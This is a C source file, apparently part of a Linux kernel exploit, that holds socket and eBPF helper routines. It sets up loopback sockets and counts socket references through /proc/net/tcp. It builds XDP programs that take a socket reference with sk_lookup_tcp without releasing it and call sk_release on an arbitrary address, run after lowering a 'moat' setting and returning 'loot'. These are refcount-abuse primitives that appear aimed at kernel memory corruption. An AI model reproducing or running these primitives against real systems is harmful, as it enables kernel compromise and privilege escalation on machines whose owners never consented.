// SPDX-License-Identifier: GPL-2.0
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "attack.h"
#include "build.h"
#include "sockets.h"

static u16 port_of(int fd)
{
	struct sockaddr_in a;
	socklen_t len = sizeof(a);

	getsockname(fd, (void *)&a, &len);
	return a.sin_port;
}

void socket_listen(struct ends *ends, int protocol)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };

	ends->listener = socket(AF_INET, SOCK_STREAM, protocol);
	if (bind(ends->listener, (void *)&a, sizeof(a)) || listen(ends->listener, 4))
		bail("listen: %s", strerror(errno));
	ends->port = port_of(ends->listener);
}

void socket_begin(struct ends *ends, int protocol)
{
	struct sockaddr_in a = {
		.sin_family = AF_INET, .sin_port = ends->port,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};

	ends->client = socket(AF_INET, SOCK_STREAM, protocol);
	if (connect(ends->client, (void *)&a, sizeof(a)))
		bail("connect: %s", strerror(errno));
	ends->peer = port_of(ends->client);
}

void socket_connect(const struct ends *to, struct ends *ends)
{
	ends->port = to->port;
	socket_begin(ends, 0);
	ends->end = accept(to->listener, NULL, NULL);
}

void socket_ends(struct ends *ends)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };

	if (system("ip link set lo up"))
		diag("lo is not up");
	socket_listen(ends, 0);
	ends->udp = socket(AF_INET, SOCK_DGRAM, 0);
	if (bind(ends->udp, (void *)&a, sizeof(a)))
		bail("bind: %s", strerror(errno));
	ends->udp_port = port_of(ends->udp);
	socket_connect(ends, ends);
}

int socket_references(const struct ends *ends)
{
	FILE *f = fopen("/proc/net/tcp", "r");
	unsigned int local, remote;
	char line[256];
	int refs = -1;

	while (f && fgets(line, sizeof(line), f)) {
		int n;

		if (sscanf(line, " %*d: %*x:%x %*x:%x %*x %*x:%*x %*x:%*x %*x %*d %*d %*d %d",
			   &local, &remote, &n) == 3 && local == ntohs(ends->port) &&
		    remote == ntohs(ends->peer))
			refs = n;
	}
	if (f)
		fclose(f);
	return refs;
}

void socket_lookup(int func, u16 from, u16 to)
{
	u32 self = htonl(INADDR_LOOPBACK);

	E(ST(BPF_W, R10, -16, self), ST(BPF_W, R10, -12, self), ST(BPF_H, R10, -8, from),
	  ST(BPF_H, R10, -6, to), MOV_REG(R1, R6), MOV_REG(R2, R10), ALU64_IMM(BPF_ADD, R2, -16),
	  MOV_IMM(R3, 12), MOV_IMM(R4, BPF_F_CURRENT_NETNS), MOV_IMM(R5, 0),
	  INSN(BPF_JMP | BPF_CALL, 0, 0, 0, func));
}

void socket_release(int reg)
{
	E(MOV_REG(R1, reg), CALL(sk_release));
}

u64 socket_keep(const struct ends *ends)
{
	int now = level, fd;

	cnt = 0;
	E(MOV_REG(R6, R1));
	socket_lookup(BPF_FUNC_sk_lookup_tcp, ends->peer, ends->port);
	E(MOV_REG(R3, R0), TAKE_R3(), FINISH(&xdp));
	moat_set_level(0);
	fd = load(&xdp, "keeper", insns, cnt);
	prog_run_once(fd);
	close(fd);
	moat_set_level(now);
	return loot_at(0);
}

void socket_give_back(u64 addr)
{
	int now = level, fd;

	cnt = 0;
	E(LD_IMM64(R1, addr), CALL(sk_release), FINISH(&xdp));
	moat_set_level(0);
	fd = load(&xdp, "giver", insns, cnt);
	prog_run_once(fd);
	close(fd);
	moat_set_level(now);
}
